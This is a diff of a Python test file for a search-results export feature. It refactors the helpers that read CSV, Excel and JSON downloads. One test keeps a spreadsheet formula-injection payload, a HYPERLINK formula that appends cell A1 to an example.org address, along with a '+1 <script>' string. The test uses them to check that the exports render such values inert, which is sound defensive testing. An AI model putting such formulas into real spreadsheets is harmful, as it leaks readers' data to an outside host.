@@ -1,12 +1,7 @@
 """All that a search finds, to take away: what stands in each column, and what is refused."""
 
-import csv
-import io
-import json
-from contextlib import closing
-
-import openpyxl
 import pytest
+from downloads import csv_rows, data, sheet
 from factories.records import (
     CommitmentFactory,
     ElectionFactory,
@@ -35,15 +30,8 @@ pytestmark = pytest.mark.django_db
 HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"Law")'
 
 
-def body(response) -> bytes:
-    assert response.status_code == 200
-    with closing(response):
-        return b"".join(response.streaming_content)
-
-
 def rows(client, address: str) -> list[dict]:
-    text = body(client.get(address)).decode("utf-8-sig")
-    return list(csv.DictReader(io.StringIO(text, newline="")))
+    return csv_rows(client.get(address))
 
 
 @pytest.fixture
@@ -111,14 +99,14 @@ def test_every_kind_of_record_has_a_row_in_every_form(client, law):
     TextPageFactory()
     kinds = {row["What"] for row in rows(client, "/search/export.csv")}
     assert len(kinds) == 8
-    book = openpyxl.load_workbook(io.BytesIO(body(client.get("/search/export.xlsx"))))
-    assert {row[1] for row in book.active.iter_rows(min_row=2, values_only=True)} == kinds
-    answer = json.loads(body(client.get("/search/export.json")))
+    lines = sheet(client.get("/search/export.xlsx"))
+    assert {row[1] for row in lines.iter_rows(min_row=2, values_only=True)} == kinds
+    answer = data(client.get("/search/export.json"))
     assert len({record["kind"] for record in answer["results"]}) == 8
 
 
 def test_json_has_each_record_as_the_api_gives_it_and_says_what_it_is(client, law):
-    answer = json.loads(body(client.get("/search/export.json?q=deepfakes&page=7")))
+    answer = data(client.get("/search/export.json?q=deepfakes&page=7"))
     assert (answer["total"], answer["address"]) == (1, "http://127.0.0.1:8000/search/?q=deepfakes")
     assert answer["licence"].startswith("https://creativecommons.org/")
     (record,) = answer["results"]
@@ -147,10 +135,9 @@ def test_hostile_titles_run_nowhere(client):
     InstrumentFactory(title=HOSTILE, record_id="hostile", slug="hostile", summary="+1 <script>")
     (row,) = rows(client, "/search/export.csv?kind=instrument")
     assert (row["Title"], row["Summary"]) == (f"'{HOSTILE}", "'+1 <script>")
-    book = openpyxl.load_workbook(io.BytesIO(body(client.get("/search/export.xlsx?kind=instrument"))))
-    title = book.active["C2"]
+    title = sheet(client.get("/search/export.xlsx?kind=instrument"))["C2"]
     assert (title.value, title.data_type) == (HOSTILE, "s")
-    (record,) = json.loads(body(client.get("/search/export.json?kind=instrument")))["results"]
+    (record,) = data(client.get("/search/export.json?kind=instrument"))["results"]
     assert record["title"] == HOSTILE
 
 
